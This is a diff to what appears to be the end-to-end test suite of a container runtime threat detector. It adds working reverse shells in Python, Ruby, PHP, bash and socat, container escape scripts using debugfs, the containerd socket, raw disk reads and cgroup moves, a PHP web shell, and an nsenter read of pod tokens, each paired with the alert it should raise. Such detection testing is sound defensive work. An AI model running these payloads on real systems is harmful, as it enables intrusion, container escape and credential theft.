@@ -8,10 +8,11 @@ import os
 import pathlib
 import shutil
 import signal
+import socket
 import subprocess
 import unittest
 
-from harness import PATIENCE, Listener
+from harness import PATIENCE, Listener, wait_until
 from watched import Watched
 
 SHELL = "Reverse shell"
@@ -21,6 +22,9 @@ NAMELESS = "Program without a name executed in a container"
 
 # The node's programs, for containers that need more than their image has.
 PROGRAMS = {"/usr": "/usr", "/lib": "/lib", "/lib64": "/lib64"}
+
+# What /usr/bin has under these names are links by way of /etc.
+RUBY_PROGRAM, PHP_PROGRAM = (os.path.realpath(shutil.which(name)) for name in ("ruby", "php"))
 
 PYTHON = """
 import os, socket
@@ -41,6 +45,21 @@ use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({port}, i
 open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh");
 """
 
+PYTHON_PTY = """
+import os, pty, socket
+s = socket.create_connection(("127.0.0.1", {port}))
+for stream in range(3): os.dup2(s.fileno(), stream)
+pty.spawn("/usr/bin/bash")
+"""
+RUBY = """
+s = TCPSocket.open("127.0.0.1", {port})
+exec("/bin/sh", :in => s, :out => s, :err => s)
+"""
+PHP = """
+$s = fsockopen("127.0.0.1", {port});
+proc_close(proc_open("/bin/sh", [$s, $s, $s], $pipes));
+"""
+
 # How the shell is started, and the rules that tell. {port}: where the attacker listens.
 SHELLS = {
     "bash /dev/tcp": (["/usr/bin/bash", "-c", "exec bash -i >&/dev/tcp/127.0.0.1/{port} 0>&1"], [SHELL]),
@@ -54,12 +73,18 @@ SHELLS = {
                                "EXEC:/usr/bin/bash,pty,setsid,ctty,stderr"], [BEHIND_RELAY]),
     "python": (["/usr/bin/python3", "-c", PYTHON], [SHELL]),
     "perl": (["/usr/bin/perl", "-e", PERL], [SHELL]),
+    "python with a terminal": (["/usr/bin/python3", "-c", PYTHON_PTY], [SHELL]),
+    "ruby": ([RUBY_PROGRAM, "-rsocket", "-e", RUBY], [SHELL]),
+    "php": ([PHP_PROGRAM, "-n", "-r", PHP], [SHELL]),
+    "bash that reads line by line": (["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/{port}; cat <&5 | "
+                                      "while read line; do eval \"$line\" 2>&1 >&5; done"], [SHELL]),
+    "socat without a terminal": (["/usr/bin/socat", "TCP:127.0.0.1:{port}", "EXEC:/bin/sh"], [BEHIND_RELAY]),
     "a program in memory": (["/usr/bin/python3", "-c", MEMFD], [SHELL, NAMELESS]),
     "a static program": (["/bin/dup3_shell", "127.0.0.1", "{port}"], [SHELL]),
 }
 
 # Scripts of a privileged container in the node's pid namespace, and the rule that tells. {service}: a
-# process of the node; /host: a directory of the node that looks like one.
+# process of the node; {disk}: a block device; /host: a directory of the node that looks like one.
 WAYS_OUT = {
     "release_agent": ("mkdir -p /tmp/cg && mount -t cgroup -o none,name=nezuban{unique} none /tmp/cg && "
                       "exec 3<>/tmp/cg/release_agent; exec 3<&-; umount /tmp/cg",
@@ -82,6 +107,13 @@ WAYS_OUT = {
                            "Container writes what the node starts programs from"),
     "the kubelet's key": ("read line </host/var/lib/kubelet/pki/kubelet.key",
                           "Container opens the node's credentials"),
+    "the kernel's debugging files": ("mkdir -p /tmp/d && mount -t debugfs none /tmp/d; umount /tmp/d",
+                                     "Container mounts a file system of the kernel"),
+    "the runtime's socket": ("/usr/bin/python3 -c 'import socket; "
+                             "socket.socket(socket.AF_UNIX).connect(\"/host/containerd.sock\")'",
+                             "Container connects to the container runtime"),
+    "a disk read with debugfs": ("/bin/busybox mknod /tmp/d b {disk} && /usr/sbin/debugfs -R 'cat /secret' /tmp/d",
+                                 "Container opens a raw disk or the node's memory"),
     "the runtime's binary": ("exec 3>>/host/usr/bin/runc", "Container opens the runtime's binary for writing"),
 }
 
@@ -110,6 +142,25 @@ class Techniques(Watched):
         for name in ("var/lib/kubelet/pki/kubelet.key", "usr/bin/runc"):
             (node / name).write_text("x\n")
         return node
+
+    def runtime_of(self, node):
+        """Something that listens where a runtime would, on that node."""
+        runtime = socket.socket(socket.AF_UNIX)
+        self.addCleanup(runtime.close)
+        runtime.bind(str(node / "containerd.sock"))
+        runtime.listen()
+
+    def disk(self):
+        """Numbers of a block device with an ext2 on it that has a file named secret."""
+        image, secret = self.directory / "node.img", self.directory / "secret"
+        secret.write_text("node-secret\n")
+        subprocess.run(["mke2fs", "-q", "-t", "ext2", image, "1024"], check=True)
+        subprocess.run(["debugfs", "-w", "-R", f"write {secret} secret", image], check=True, capture_output=True)
+        device = subprocess.run(["losetup", "--find", "--show", image], check=True, capture_output=True,
+                                text=True).stdout.strip()
+        self.addCleanup(subprocess.run, ["losetup", "-d", device])
+        number = os.stat(device).st_rdev
+        return f"{os.major(number)} {os.minor(number)}"
 
     def test_reverse_shells(self):
         for name, (command, rules) in SHELLS.items():
@@ -151,13 +202,19 @@ print(s.makefile().read())
         self.expect(SHELL, container, container.id)
 
     def test_ways_out(self):
-        node = self.node()
+        node, disk = self.node(), self.disk()
+        self.runtime_of(node)
         for number, (name, (script, rule)) in enumerate(WAYS_OUT.items()):
             with self.subTest(name):
                 unique = f"{os.getpid()}x{number}"
-                container = self.run_privileged(
-                    script.format(service=self.service.pid, unique=unique), mounts={"/host": node}, ro=PROGRAMS)
+                script = script.format(service=self.service.pid, unique=unique, disk=disk)
+                container = self.run_privileged(script, mounts={"/host": node}, ro=PROGRAMS)
                 self.expect(rule, container, container.id)
+
+    def test_its_own_cgroup_left(self):
+        container = self.run_privileged("mkdir -p /tmp/cg && mount -t cgroup2 none /tmp/cg && "
+                                        "echo $$ >/tmp/cg/cgroup.procs && umount /tmp/cg")
+        self.expect("Process moved out of its container's cgroup", container, "host", evt_arg_path="/")
 
     def test_a_descriptor_that_was_left_open(self):
         container = self.make_container("/bin/sh", "-c", "cd /proc/self/fd/3 && read line <etc/hostname")
@@ -172,6 +229,51 @@ print(s.makefile().read())
                 container = self.container("/bin/sh", "-c", script, ro=PROGRAMS)
                 container.finish()
                 self.expect(rule, container, container.id)
+
+    def test_a_web_shell_in_a_real_server(self):
+        (self.directory / "web").mkdir(exist_ok=True)
+        (self.directory / "web" / "x.php").write_text("<?php system($_GET['c']); ?>")
+        served = Listener()
+        port = served.port
+        served.close()
+        container = self.container(PHP_PROGRAM, "-n", "-S", f"127.0.0.1:{port}", "-t", "/web", ro=PROGRAMS,
+                                   mounts={"/web": self.directory / "web"})
+        answer = wait_until(lambda: subprocess.run(
+            ["curl", "-s", f"http://127.0.0.1:{port}/x.php?c=id"], capture_output=True, text=True).stdout, "the server")
+        self.assertIn("uid=0", answer)
+        self.expect("Shell started by a web server", container, container.id)
+
+    def test_calls_of_the_api_are_counted(self):
+        container = self.container(
+            "/usr/bin/bash", "-c", f"for i in {{1..25}}; do exec 3<>/dev/tcp/127.0.0.1/{self.api_server.port}; done; "
+            "exec 3<>/dev/tcp/127.0.0.1/22; true")
+        for _ in range(25):
+            self.api_server.accept()[0].close()
+        container.finish()
+        alert = self.expect("Kubernetes API called again and again by a visitor", container, container.id)
+        self.assertEqual(alert["count"], 20)
+        self.expect("Container connects to a remote login service", container, container.id)
+
+    def test_tokens_of_several_pods(self):
+        pods = pathlib.Path("/var/lib/kubelet/pods")
+        made = [place for place in (pods.parent, pods) if not place.exists()]
+        pods.mkdir(parents=True, exist_ok=True)
+        self.addCleanup(lambda: [place.rmdir() for place in reversed(made)])
+        tokens = []
+        for number in range(3):
+            pod = pods / f"nezuban-e2e-{os.getpid()}-{number}"
+            self.addCleanup(shutil.rmtree, pod)
+            tokens.append(pod / "volumes/kubernetes.io~projected/kube-api-access-x/token")
+            tokens[-1].parent.mkdir(parents=True)
+            tokens[-1].write_text("not-a-token\n")
+        container = self.run_privileged(
+            f"nsenter -t {self.service.pid} -m /usr/bin/bash -c 'cat {' '.join(map(str, tokens))}; "
+            f"exec 3<>/dev/tcp/127.0.0.1/{self.api_server.port}'")
+        self.api_server.accept()[0].close()
+        several = self.expect("Tokens of several pods read", container)
+        self.assertEqual(several["count"], 3)
+        called = self.expect("Kubernetes API called after tokens of several pods were read", container)
+        self.assertEqual([r["id"] for r in called["related"]], [several["id"]])
 
     def expect_on_node(self, rule, **fields):
         """The alert of `rule` for what this process itself did."""
